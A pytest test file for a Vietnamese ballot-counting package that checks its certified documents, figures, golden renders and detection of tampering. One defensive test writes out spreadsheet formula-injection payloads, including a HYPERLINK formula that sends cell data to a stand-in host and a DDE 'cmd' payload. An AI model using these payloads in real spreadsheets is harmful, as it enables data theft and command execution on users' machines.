"""The certified package: what it holds, how the minutes look, and that no tampering passes.

Built once from the Hà Nội case (88 scanned ballots, certified through the
real CLI; `certified_case.hanoi_case`). Every byte-level tamper is tried on
every file of the package (one byte changed at its start, middle and end),
and a file missing or added; each must make ``verify`` fail and name the
file. ``retally`` must reproduce the certified count exactly, from the
workspace and from the package alone. The minutes are rendered to PNG and
compared with golden renders (regenerate with ``KIEMPHIEU_UPDATE_GOLDEN=1``,
after looking at the new render).
"""

from __future__ import annotations

import copy
import csv
import hashlib
import io
import json
import shutil
import stat
import zipfile
from pathlib import Path

import numpy as np
import pypdfium2 as pdfium
import pytest
from certified_case import hanoi_case, run
from document_cases import fixed
from golden_files import golden_compare, render
from PIL import Image

from pipeline.documents.chart import chart_png
from pipeline.documents.minutes import minutes_pdf
from pipeline.documents.spreadsheets import result_csv, result_xlsx
from pipeline.documents.typography import date_words
from pipeline.documents.verify import verify_package

GOLDEN = Path(__file__).parent / "golden"


@pytest.fixture(scope="module")
def hanoi(tmp_path_factory):
    return hanoi_case(tmp_path_factory)


@pytest.fixture(scope="module")
def doc(hanoi) -> dict:
    return json.loads((hanoi.pkg / "tally.json").read_text("utf-8"))


def package_files(pkg: Path) -> list[str]:
    return sorted(p.relative_to(pkg).as_posix() for p in pkg.rglob("*") if p.is_file())


def test_package_holds_every_document_and_every_scan(hanoi, doc) -> None:
    files = package_files(hanoi.pkg)
    for name in ("bien-ban-kiem-phieu.pdf", "bien-ban-kiem-phieu.docx", "du-thao-nghi-quyet.pdf",
                 "du-thao-nghi-quyet.docx", "ket-qua.csv",
                 "ket-qua.xlsx", "tally.json", "campaign.yaml", "manifest.json", "manifest.sig",
                 "public-key.pem"):
        assert name in files
    scans = [f for f in files if f.startswith("scans/")]
    assert len(scans) == 88 == len(doc["pages"])
    for name in scans:
        assert hashlib.sha256((hanoi.pkg / name).read_bytes()).hexdigest() == Path(name).stem
    manifest = json.loads((hanoi.pkg / "manifest.json").read_text("utf-8"))
    listed = {e["path"]: e["sha256"] for e in manifest["files"]}
    assert set(listed) == set(files) - {"manifest.json", "manifest.sig", "public-key.pem"}
    key = hanoi.ws / "keys" / "workspace-ed25519.pem"
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    assert manifest["key"]["sha256"] == doc["key_sha256"]


def test_tally_json_is_the_contract_tally_and_more(doc) -> None:
    for key in ("campaign", "rules", "electorate", "ballots", "base", "pending_review",
                "certified", "candidates"):
        assert key in doc
    assert doc["campaign"] == "hn-hdnd-2023" and doc["certified"] is True
    assert doc["ballots"]["issued"] == 90 and doc["ballots"]["collected"] == 88
    first = doc["candidates"][0]
    assert first["percent"] == {"high": 85.23, "medium": 9.09, "low": 4.55}
    assert doc["candidates"][4]["consequence_text"].endswith("(khoản 3 Điều 12 Nghị quyết số 96/2023/QH15).")
    assert doc["declared"]["head"] == "Nguyễn Thị Trưởng Ban"
    assert doc["reconciliation"]["matches"] is True
    assert doc["certification"]["thresholds"]["mark_extent_mm"] == 3.7  # omr.decide.MarkRule
    assert any(d["state"] == "resolved" for d in doc["decisions"]) or not doc["decisions"]


def test_csv_opens_in_excel_with_the_golden_figures(hanoi) -> None:
    raw = (hanoi.pkg / "ket-qua.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:3] == ["STT", "Họ và tên", "Chức vụ"]
    assert rows[1][:9] == ["1", "Trần Sỹ Thanh", "Chủ tịch UBND thành phố", "75", "8", "4",
                           "85.23", "9.09", "4.55"]
    assert [r[-2] for r in rows[1:]] == ["", "", "over_half_low", "over_half_low", "two_thirds_low"]


def test_xlsx_has_numbers_not_text(hanoi) -> None:
    from openpyxl import load_workbook

    wb = load_workbook(hanoi.pkg / "ket-qua.xlsx")
    sheet = wb["Kết quả"]
    rows = [r for r in sheet.iter_rows(values_only=True) if r and r[0] == 1]
    assert rows[0][:9] == (1, "Trần Sỹ Thanh", "Chủ tịch UBND thành phố", 75, 8, 4, 85.23, 9.09, 4.55)
    assert "Đối chiếu" in wb.sheetnames


FORMULAS = ('=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+2", "-3+4", "@SUM(A1:A9)",
            "\tTab", "\r=1")


def test_names_and_notes_that_look_like_formulas_stay_text(doc) -> None:
    """A person named like a formula, or a committee note written as one, is text in the CSV
    (behind an apostrophe) and the XLSX (a string cell): no spreadsheet runs it."""
    from openpyxl import load_workbook

    doc = copy.deepcopy(doc)
    for c, text in zip(doc["candidates"], FORMULAS, strict=False):
        c["name"] = text
    doc["candidates"][0]["position"] = "=1+1"
    doc["reconciliation"]["note"] = "=cmd|' /C calc'!A0"
    rows = list(csv.reader(io.StringIO(result_csv(doc).decode("utf-8-sig"))))
    assert [r[1] for r in rows[1:]] == ["'" + f for f in FORMULAS[:len(doc["candidates"])]]
    assert rows[1][2] == "'=1+1" and rows[1][3] == "75"
    data = result_xlsx(doc)
    with zipfile.ZipFile(io.BytesIO(data)) as xlsx:
        assert not any(b"<f>" in xlsx.read(n) for n in xlsx.namelist() if n.endswith(".xml"))
    wb = load_workbook(io.BytesIO(data))
    people = [r for r in wb["Kết quả"].iter_rows() if r[0].value in (1, 2, 3, 4, 5)]
    assert [r[1].value for r in people] == list(FORMULAS[:len(people)])
    assert all(r[1].data_type == "s" and r[1].quotePrefix for r in people)
    assert people[0][3].value == 75 and people[0][3].data_type == "n"
    notes = [r[1] for r in wb["Đối chiếu"].iter_rows() if r[1].value == "=cmd|' /C calc'!A0"]
    assert len(notes) == 1 and notes[0].data_type == "s"


def pdf_text(path: Path) -> str:
    pdf = pdfium.PdfDocument(str(path))
    return "\n".join(pdf[i].get_textpage().get_text_range() for i in range(len(pdf)))


def test_minutes_say_what_a_committee_signs(hanoi) -> None:
    text = " ".join(pdf_text(hanoi.pkg / "bien-ban-kiem-phieu.pdf").split())
    for phrase in ("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc",
                   "HỘI ĐỒNG NHÂN DÂN THÀNH PHỐ HÀ NỘI", "BAN KIỂM PHIẾU", "BIÊN BẢN KIỂM PHIẾU",
                   "/BB-BKP", "Căn cứ Nghị quyết số 96/2023/QH15", "(giờ Việt Nam), tại Hà Nội",
                   "Số phiếu phát ra: 90 phiếu", "Số phiếu thu về: 88 phiếu",
                   "Số phiếu không hợp lệ (cả tờ phiếu): 0 phiếu",
                   "theo khoản 3 Điều 19 Nghị quyết số 96/2023/QH15",
                   "85,23", "9,09", "4,55", "Trần Sỹ Thanh", "Điều 12 Nghị quyết số 96/2023/QH15",
                   "Kết quả đối chiếu: khớp", "Biên bản lập xong lúc", "thành 03 bản",
                   "chữ ký điện tử", "Nơi nhận:", "- Lưu: hồ sơ kỳ họp.", "TRƯỞNG BAN KIỂM PHIẾU",
                   "THƯ KÝ", "THÀNH VIÊN", "Nguyễn Thị Trưởng Ban", "Phạm Thị Thư Ký",
                   "Lê Văn Thành Viên"):
        assert phrase in text, phrase
    assert "chữ ký số" not in text and "Điều 19 khoản 3" not in text


def test_the_minutes_give_one_date_in_vietnam_time(hanoi, doc) -> None:
    """The heading's date and the closing sentence's are the certification's, in Vietnam time."""
    import datetime as dt
    import re

    text = " ".join(pdf_text(hanoi.pkg / "bien-ban-kiem-phieu.pdf").split())
    at = dt.datetime.fromisoformat(doc["certification"]["at"]) + dt.timedelta(hours=7)
    day = date_words(at.date())
    assert f"Hà Nội, {day}" in text
    assert f"Biên bản lập xong lúc {at:%H} giờ {at:%M} phút, {day} (giờ Việt Nam)" in text
    dates = set(re.findall(r"ngày \d\d tháng \d\d? năm \d{4}", text))
    assert dates <= {day, "ngày 23 tháng 6 năm 2023"}, dates  # and the resolution cited


def test_minutes_docx_says_the_same_in_times_new_roman(hanoi) -> None:
    import docx

    d = docx.Document(str(hanoi.pkg / "bien-ban-kiem-phieu.docx"))
    text = "\n".join(p.text for p in d.paragraphs)
    cells = [c.text for t in d.tables for row in t.rows for c in row.cells]
    assert "BIÊN BẢN KIỂM PHIẾU" in text and "Căn cứ Nghị quyết số 96/2023/QH15" in text
    assert "85,23" in cells and "Trần Sỹ Thanh" in cells and "TRƯỞNG BAN KIỂM PHIẾU" in " ".join(cells)
    assert d.styles["Normal"].font.name == "Times New Roman"
    import unicodedata
    assert unicodedata.is_normalized("NFC", text)


def test_minutes_first_page_matches_the_golden_render(doc) -> None:
    golden_compare(render(minutes_pdf(fixed(doc)), 0), "minutes-hanoi-page1-60dpi.png")


def test_chart_matches_the_golden_render(doc) -> None:
    image = np.asarray(Image.open(io.BytesIO(chart_png(fixed(doc), dpi=60))).convert("L"))
    golden_compare(image, "minutes-hanoi-chart-60dpi.png")


# -- verify: every tamper is detected ---------------------------------------------


def test_untouched_package_verifies(hanoi, doc) -> None:
    proc = run("verify", str(hanoi.pkg), "--key", doc["key_sha256"])
    assert "OK" in proc.stdout


def test_one_changed_byte_in_any_file_is_detected(hanoi) -> None:
    pkg = hanoi.pkg
    tried = 0
    for name in package_files(pkg):
        path = pkg / name
        original = path.read_bytes()
        for at in sorted({0, len(original) // 2, len(original) - 1}):
            data = bytearray(original)
            data[at] ^= 0x01
            path.write_bytes(bytes(data))
            try:
                result = verify_package(pkg)
            finally:
                path.write_bytes(original)
            assert not result.ok, (name, at)
            where = {p.path for p in result.problems}
            assert where & {name, "manifest.sig", "public-key.pem", "manifest.json"}, (name, where)
            if name not in ("manifest.json", "manifest.sig", "public-key.pem"):
                # the file itself, then what the certificate says of it (its records, the
                # campaign file's hash)
                kinds = [(p.kind, p.path) for p in result.problems]
                assert kinds[0] == ("changed", name), kinds
                assert all(k in ("disagrees", "bad_certificate") for k, _ in kinds[1:]), kinds
            tried += 1
    assert tried >= 3 * 90
    assert verify_package(pkg).ok


def test_tamper_is_reported_by_the_cli_naming_the_file(hanoi, tmp_path: Path) -> None:
    pkg = tmp_path / "pkg"
    shutil.copytree(hanoi.pkg, pkg)
    csv_path = pkg / "ket-qua.csv"
    csv_path.write_bytes(csv_path.read_bytes().replace(b"85.23", b"95.23"))
    proc = run("verify", str(pkg), check=False)
    assert proc.returncode == 1 and "ket-qua.csv: changed" in proc.stderr and "NOT VALID" in proc.stderr
    shutil.copyfile(hanoi.pkg / "ket-qua.csv", csv_path)

    scan = sorted((pkg / "scans").iterdir())[0]
    scan.unlink()
    (pkg / "scans" / "extra.jpg").write_bytes(b"\xff\xd8\xff")
    proc = run("verify", str(pkg), check=False)
    assert proc.returncode == 1
    assert f"scans/{scan.name}: missing" in proc.stderr and "scans/extra.jpg: added" in proc.stderr


def test_a_resigned_package_with_another_key_is_caught_by_the_trusted_key(hanoi, doc,
                                                                         tmp_path: Path) -> None:
    """Someone re-signs an altered package with a key of their own: the signature is valid,
    but the key is not the one printed in the signed minutes."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from pipeline.documents.export import sha256_file
    from pipeline.store.keys import key_fingerprint, public_pem

    pkg = tmp_path / "pkg"
    shutil.copytree(hanoi.pkg, pkg)
    (pkg / "ket-qua.csv").write_bytes(b"\xef\xbb\xbfforged\r\n")
    manifest = json.loads((pkg / "manifest.json").read_text("utf-8"))
    for e in manifest["files"]:
        e["sha256"] = sha256_file(pkg / e["path"])
        e["bytes"] = (pkg / e["path"]).stat().st_size
    key = Ed25519PrivateKey.generate()
    manifest["key"]["sha256"] = key_fingerprint(key.public_key())
    data = (json.dumps(manifest, ensure_ascii=False, indent=1) + "\n").encode()
    (pkg / "manifest.json").write_bytes(data)
    import base64
    (pkg / "manifest.sig").write_bytes(base64.b64encode(key.sign(data)) + b"\n")
    (pkg / "public-key.pem").write_bytes(public_pem(key))
    del serialization
    # the manifest is consistent, but the certificate inside names the workspace's key
    alone = verify_package(pkg)
    assert [(p.kind, p.path) for p in alone.problems] == [
        ("bad_certificate", "certificate.json"), ("bad_certificate", "certificate.json")]
    result = verify_package(pkg, trusted_key=doc["key_sha256"])
    assert result.problems[0].kind == "untrusted_key"


# -- retally -------------------------------------------------------------------------


def test_retally_reproduces_the_certified_count_exactly(hanoi) -> None:
    for source in (hanoi.ws, hanoi.pkg):
        proc = run("retally", str(source))
        assert "identical to the certified one" in proc.stdout and "88 page image(s)" in proc.stdout


def test_retally_names_a_difference(hanoi, tmp_path: Path) -> None:
    """A certified count altered in the records no longer matches a fresh reading."""
    ws = tmp_path / "ws"
    shutil.copytree(hanoi.ws, ws)
    from sqlalchemy import create_engine, text

    engine = create_engine(f"sqlite:///{ws / 'kiemphieu.db'}")
    with engine.begin() as conn:
        tally = json.loads(conn.execute(text("select tally from certification")).scalar_one())
        tally["candidates"][4]["counts"]["low"] = 60
        conn.execute(text("update certification set tally = :t"), {"t": json.dumps(tally)})
    engine.dispose()
    proc = run("retally", str(ws), check=False)
    assert proc.returncode == 1
    assert "STT 5 Người Thứ Năm: counts certified" in proc.stderr


def test_retally_names_stored_images_missing_or_altered_in_page_order(hanoi, tmp_path: Path
                                                                     ) -> None:
    """In a workspace (no package to verify first), a stored image removed and another
    altered are each named, in the order of the pages, and the count differs."""
    ws = tmp_path / "ws"
    shutil.copytree(hanoi.ws, ws)
    from sqlalchemy import create_engine, text

    engine = create_engine(f"sqlite:///{ws / 'kiemphieu.db'}")
    with engine.connect() as conn:
        paths = [r[0] for r in conn.execute(text("select image_path from page order by id"))]
    engine.dispose()
    (ws / paths[2]).unlink()
    altered = ws / paths[5]
    altered.write_bytes(altered.read_bytes() + b"\0")
    proc = run("retally", str(ws), check=False)
    assert proc.returncode == 1
    missing = proc.stderr.index("stored image cannot be read")
    changed = proc.stderr.index("SHA-256 is not the one stored")
    assert missing < changed


def test_retally_refuses_a_tampered_package(hanoi, tmp_path: Path) -> None:
    pkg = tmp_path / "pkg"
    shutil.copytree(hanoi.pkg, pkg)
    scan = sorted((pkg / "scans").iterdir())[3]
    data = bytearray(scan.read_bytes())
    data[len(data) // 2] ^= 0xFF
    scan.write_bytes(bytes(data))
    proc = run("retally", str(pkg), check=False)
    assert proc.returncode == 1 and "does not verify" in proc.stderr and scan.name in proc.stderr


def test_export_refuses_an_uncertified_workspace_and_a_used_folder(hanoi, tmp_path: Path) -> None:
    proc = run("export", str(hanoi.ws), "--out", str(hanoi.pkg), check=False)
    assert proc.returncode == 1 and "not an empty folder" in proc.stderr


def test_every_figure_in_every_document_is_the_tally_json(hanoi) -> None:
    """The minutes, the draft resolution (PDF and DOCX), the CSV and the XLSX give each
    person's counts and percentages exactly as ``kiemphieu tally --json`` does."""
    import re

    import docx
    from openpyxl import load_workbook

    tally = json.loads(hanoi.steps["tally_after"].stdout)
    assert tally["certified"] is True
    pkg = hanoi.pkg
    minutes = " ".join(pdf_text(pkg / "bien-ban-kiem-phieu.pdf").split())
    resolution = " ".join(pdf_text(pkg / "du-thao-nghi-quyet.pdf").split())
    b = tally["ballots"]
    for phrase in (f"Số phiếu phát ra: {b['issued']} phiếu", f"Số phiếu thu về: {b['collected']} phiếu",
                   f"({tally['base']}) theo"):
        assert phrase in minutes, phrase
    assert f"số phiếu phát ra {b['issued']}, số phiếu thu về {b['collected']}" in resolution

    def vn(x: float) -> str:
        return f"{x:.2f}".replace(".", ",")

    cells = [c.text for t in docx.Document(str(pkg / "bien-ban-kiem-phieu.docx")).tables
             for row in t.rows for c in row.cells]
    rdocx = "\n".join(p.text for p in docx.Document(str(pkg / "du-thao-nghi-quyet.docx")).paragraphs)
    csv_rows = {int(r[0]): r for r in
                list(csv.reader(io.StringIO((pkg / "ket-qua.csv").read_text("utf-8-sig"))))[1:]}
    sheet = load_workbook(pkg / "ket-qua.xlsx")["Kết quả"]
    xlsx_rows = {r[0]: r for r in sheet.iter_rows(values_only=True) if isinstance(r[0], int)}
    for c in tally["candidates"]:
        figures = [x for lv in ("high", "medium", "low")
                   for x in (str(c["counts"][lv]), vn(c["percent"][lv]))]
        row = rf"{c['candidate']} {re.escape(c['name'])} {re.escape(c['position'])} " + " ".join(figures)
        assert re.search(row, minutes), row
        i = cells.index(c["name"])
        assert cells[i - 1: i + 8] == [str(c["candidate"]), c["name"], c["position"], *figures]
        for lv, label in (("high", "tín nhiệm cao"), ("medium", "tín nhiệm"), ("low", "tín nhiệm thấp")):
            words = (f"Số phiếu {label}: {c['counts'][lv]} phiếu (chiếm {vn(c['percent'][lv])} % "
                     "tổng số phiếu thu về)")
            assert words in resolution and words in rdocx, words
        r = csv_rows[c["candidate"]]
        assert [int(x) for x in r[3:6]] == [c["counts"][lv] for lv in ("high", "medium", "low")]
        assert r[6:9] == [f"{c['percent'][lv]:.2f}" for lv in ("high", "medium", "low")]
        assert int(r[9]) == c["counts"]["invalid"] and (r[11] or None) == c["consequence"]
        x = xlsx_rows[c["candidate"]]
        assert list(x[3:10]) == [c["counts"]["high"], c["counts"]["medium"], c["counts"]["low"],
                                 c["percent"]["high"], c["percent"]["medium"], c["percent"]["low"],
                                 c["counts"]["invalid"]]
